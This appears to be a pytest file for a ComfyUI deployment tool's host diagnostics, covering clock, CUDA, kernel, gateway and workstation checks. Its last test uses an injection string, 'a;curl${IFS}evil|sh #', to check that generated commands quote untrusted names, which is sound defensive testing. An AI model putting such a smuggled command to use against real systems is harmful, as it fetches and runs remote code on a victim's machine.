"""The findings of status and doctor from given facts; tests/host creates the real faults on a booted host."""

from __future__ import annotations

import dataclasses
import sys
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from agent.schema.facts import Busy, Ended
from agent.schema.gateway import GatewayState, LogDisk, Served, Server
from agent.schema.installed import InstalledGateway
from agent.schema.live import ComfyUI, Device, Disk, GpuState, Live, Mps, Probe, Torch
from agent.schema.survey import Installation, Survey
from core.errors import ConnectError, ToolError
from core.typed import convert
from deploy.facts import Facts
from deploy.fleet import Answer
from deploy.survey import only
from ops import doctor, status, workstation
from ops.checks import CHECKS, Case
from ops.doctor import Finding
from tests.errors import raises
from tests.plans import inputs, made, settled, spark
from tests.unit.test_gpu import PROCESS, sample

NOW = 1_000_000.0
SERVES = ComfyUI("answers", version="1.2.3", torch="2.14.1")
WELL = Live(NOW, 3600, SERVES, {"MemTotal": 10**11, "MemAvailable": 10**11}, {"/opt/comfyui": Disk(10**11, 10**12)})
PROBE = Probe(synchronized=True, compiler="/usr/bin/cc", headers="/usr/include/Python.h",
              installed={"torch": "2.14.1"})  # fmt: skip


def seen(facts: Facts | None = None, live: Live = WELL, probe: Probe = PROBE) -> Case:
    facts = facts or settled()
    live = replace(live, comfyui=replace(live.comfyui, devices=(Device("GB10", "cuda"),)))
    return Case(spark(), facts, live, probe, inputs(), made(facts), NOW)


def found(case: Case) -> dict[str, str]:
    return {each.check: each.what for each in doctor.judge(case)}


def test_healthy_host_has_no_problems() -> None:
    assert found(seen()) == {}
    assert status.judge(spark(), settled(), WELL, made(settled())).problems == ()


@pytest.mark.parametrize(("off", "what"), [(-300.0, "5 min 00 s behind"), (90.0, "1 min 30 s ahead of")])
def test_wrong_clock_is_reported(off: float, what: str) -> None:
    case = seen(live=replace(WELL, time=NOW + off))
    assert found(case) == {"clock": f"its clock is {what} this machine's"}


def test_torch_is_asked_when_comfyui_does_not_answer() -> None:
    stopped = replace(settled(), service=replace(settled().service, active=False))
    live = replace(WELL, comfyui=ComfyUI("closed"))
    case = seen(stopped, live, replace(PROBE, torch=Torch(error="CUDA driver initialization failed")))
    assert found(case)["cuda"] == "torch cannot use CUDA: CUDA driver initialization failed"


@pytest.mark.parametrize("arch", ["12.1", "12.1a", "8.9;12.1+PTX"])
def test_kernels_for_the_gpu_among_others_are_right(arch: str) -> None:
    facts = settled()
    (release,) = facts.releases
    wheels = {name: replace(wheel, arch=arch) for name, wheel in (release.wheels or {}).items()}
    facts = replace(facts, releases=(replace(release, wheels=wheels),))
    assert "kernels" not in found(seen(facts))


def test_a_gpu_of_another_kind_than_the_kernels_are_for() -> None:
    other = replace(settled().gpus[0], capability="8.9", unified=False)
    case = seen(replace(settled(), gpus=(other,)))
    assert "was built for 12.1, but the GPU is 8.9" in found(case)["kernels"]


@pytest.mark.parametrize(
    ("live", "what"),
    [
        (replace(WELL, uptime=5, comfyui=ComfyUI("closed")), "ComfyUI has been starting for 5 s"),
        (replace(WELL, comfyui=ComfyUI("closed")), "ComfyUI accepts no connections"),
        (replace(WELL, comfyui=ComfyUI("silent", "timed out")), "does not answer: timed out"),
    ],
)
def test_status_of_a_stopped_comfyui(live: Live, what: str) -> None:
    (problem,) = status.judge(spark(), settled(), live, made(settled())).problems
    assert what in problem.what
    assert problem.remedy == "inv logs --host spark"


def test_intended_gpu_sharing_causes_no_warning() -> None:
    gpu = convert({**sample("h200")["gpus"][0], "processes": [{**PROCESS, "bytes": None, "kind": "compute"}]}, GpuState)
    case = seen(live=replace(WELL, gpus=(gpu,)))
    assert found(case)["gpu-shared"].startswith("other processes use GPU 0: python3.12 main.py (pid 4242")
    shared = dataclasses.replace(case, target=spark(modes=("shared-gpu",)))
    through_mps = dataclasses.replace(case, probe=replace(PROBE, mps=Mps(True, state="active")))
    assert "gpu-shared" not in found(shared) | found(through_mps)


def test_drift_is_the_plan_of_a_deploy() -> None:
    altered = replace(settled(), altered=(settled().current,))
    judged = status.judge(spark(), altered, WELL, made(altered))
    assert judged.drift
    assert judged.drift == tuple(step.title for step in made(altered).steps)
    assert any(problem.what.startswith(f"a deploy would {judged.drift[0]}") for problem in judged.problems)


def test_failed_and_running_changes_are_reported() -> None:
    last = Ended(action="deploy", at="now", result="reverted", error="no picture")
    busy = Busy(action="deploy", who="anna", alive=True, run="1", since="now")
    facts = replace(settled(), last=last, busy=busy)
    told = [problem.what for problem in status.judge(spark(), facts, WELL, made(facts)).problems]
    assert told == ["the last deploy (now) reverted: no picture", "the host is being changed: deploy by anna since now"]


def test_the_tables_of_status_are_100_columns_wide_at_most() -> None:
    widest = "7" * 400
    gpu = convert({**sample("h200")["gpus"][0], "name": "NVIDIA RTX PRO 6000 Blackwell"}, GpuState)
    facts = replace(
        settled(),
        deployed={"at": "2026-01-01T00:00:00Z", "result": "reverted"},
        service=replace(settled().service, restarts=12345),
    )
    live = replace(
        WELL,
        time=datetime(2026, 4, 11, tzinfo=UTC).timestamp(),
        comfyui=replace(SERVES, version="0.100.10", pending=12345),
        disks={"/opt/comfyui": Disk(9 * 10**12, 10**13)},
        gpus=(gpu, gpu),
    )
    well = status.Status(widest, facts, live, tuple(widest), ())
    answers = [Answer(widest, well), Answer(widest, None, ConnectError("unreachable", f"{widest} cannot be reached"))]
    services, machines, _ = "\n".join(status.rows(answers)).split("\n\n")
    assert all(len(line) <= 100 for line in f"{services}\n{machines}".splitlines())
    assert "serves  " in services
    assert "reverted, 100 d" in services
    assert services.splitlines()[2].split() == ["7" * 16, "not", "reached", *["-"] * 7]
    assert machines.splitlines()[2].split()[1:4] == ["RTX", "PRO", "6000"]
    assert machines.splitlines()[2].endswith("100.0 GB  9000.0 GB")


CERTIFICATE = Served("2027", expired=False, renew=False, uncovered=(), names=("spark.local",))
GATEWAY = GatewayState(
    installed=InstalledGateway("text"),
    active=True,
    guarded=True,
    people={},
    certificate=CERTIFICATE,
    given=None,
    holder={},
    journal=LogDisk(persistent=True, free=50, total=100),
    servers=(Server("spark", "UP", 0),),
    previous=None,
    missing=(),
    kept=True,
)


@pytest.mark.parametrize(
    ("values", "check"),
    [
        ({}, ""),
        ({"installed": InstalledGateway(), "active": False}, "gateway"),
        ({"active": False}, "gateway"),
        ({"guarded": False}, "gateway"),
        ({"servers": (Server("spark", "DOWN", 0),)}, "gateway"),
        ({"servers": (Server("spark", "MAINT", 0),)}, "gateway"),
        ({"holder": {"pid": 1, "command": "nginx", "unit": None}}, "gateway-port"),
        ({"certificate": replace(CERTIFICATE, expired=True, renew=True)}, "gateway-certificate"),
        ({"certificate": replace(CERTIFICATE, renew=True)}, "gateway-certificate"),
        ({"certificate": replace(CERTIFICATE, uncovered=("spark.local",))}, "gateway-certificate"),
        ({"journal": LogDisk(persistent=False, free=50, total=100)}, "audit-log"),
        ({"journal": LogDisk(persistent=True, free=4, total=100)}, "audit-log"),
    ],
)
def test_problems_of_a_gateway_are_reported(values: dict[str, Any], check: str) -> None:
    case = replace(seen(), gateway=("home", replace(GATEWAY, **values)))
    assert [*found(case)] == ([check] if check else [])


def test_troubleshooting_page_is_up_to_date() -> None:
    """To update it: python -m ops.doctor."""
    assert doctor.PAGE.read_text() == doctor.page()
    assert len({check.name for check in CHECKS}) == len(CHECKS)


def test_a_machine_without_programs_can_do_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("core.shell.which", lambda _: None)
    found = doctor.this_machine()
    deploys, builds = (each.what for each in found if each.check == "abilities")
    assert deploys == "deploy: no: git and uv and ssh not installed"
    assert builds.startswith(
        "local builds: no: git is not installed; uv is not installed; use inv build-kernels --host"
    )
    whats = {each.what for each in found if each.severity == "error"}
    assert {"git is not installed", "uv is not installed", "ssh is not installed"} <= whats
    assert doctor.code(found) == 2


def test_a_mac_deploys_to_hosts_and_builds_on_them(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr(sys, "platform", "darwin")
    monkeypatch.setenv("HEARTH_WHEELHOUSE", str(tmp_path))
    monkeypatch.setattr("core.shell.which", lambda name: f"/usr/bin/{name}")
    assert workstation.look() == workstation.Seen(
        (
            "deploy: yes, to other hosts; ComfyUI itself runs on Linux",
            "local builds: no: kernels are built on Linux; use inv build-kernels --host NAME",
        ),
        (),
    )
    assert doctor.code(doctor.this_machine()) == 0
    monkeypatch.setattr("core.shell.which", lambda name: None if name == "uv" else name)
    ((severity, problem),) = workstation.look().problems
    assert (severity, problem.remedy) == ("error", "brew install uv")


def test_builds_that_lack_a_compiler_for_some_archs() -> None:
    error = ToolError("cross-compiler-missing", "there is no arm64 compiler")
    assert workstation._builds({"8.9": [], "12.1": []}, []) == "yes, for 8.9, 12.1"
    assert workstation._builds({"8.9": [], "12.1": [error]}, []) == (
        "yes, for 8.9; not for other archs: there is no arm64 compiler; use inv build-kernels --host NAME"
    )
    assert workstation._builds({"12.1": [error]}, []).startswith("no: there is no arm64 compiler; use inv")


def test_every_problem_is_followed_by_its_fix() -> None:
    found = [Finding("box", "abilities", "info", "deploy: yes", ""), Finding("box", "disk", "warning", "full", "rm x")]
    assert list(doctor.rows(["box", "other"], found)) == [
        "box: 0 errors, 1 warning", "  deploy: yes", "  warning: full  [disk]", "    fix: rm x",
        "other: no problems found",
    ]  # fmt: skip
    assert (doctor.code(found), doctor.code(found[:1])) == (1, 0)


def test_fragmented_memory_suggests_a_mode() -> None:
    line = "torch.OutOfMemoryError: CUDA out of memory. 5.10 GiB is reserved by PyTorch but unallocated."
    (told,) = doctor.judge(seen(probe=replace(PROBE, log=((NOW, line),))))
    assert told.check == "out-of-memory"
    assert 'modes = ["low-memory"]' in told.remedy
    assert '5.10 GiB is fragmented: modes = ["native-allocator"]' in told.remedy


def test_foreign_names_are_quoted_in_commands() -> None:
    name = "a;curl${IFS}evil|sh #"
    case = seen(replace(settled(), failed_nodes={name: "x"}))
    (node,) = [each for each in doctor.judge(case) if each.check == "nodes"]
    assert node.remedy.startswith(f"inv nodes.update --name '{name}'; ")
    found = [
        Installation(path, "", "", "", None, "", "", "", {}, "", (), (), (), (), False) for path in ("/a; b", "/c")
    ]
    with raises("no-installation") as raised:
        only(Survey((), tuple(found)), "spark")
    assert raised.value.hint == "choose one: --path '/a; b'"
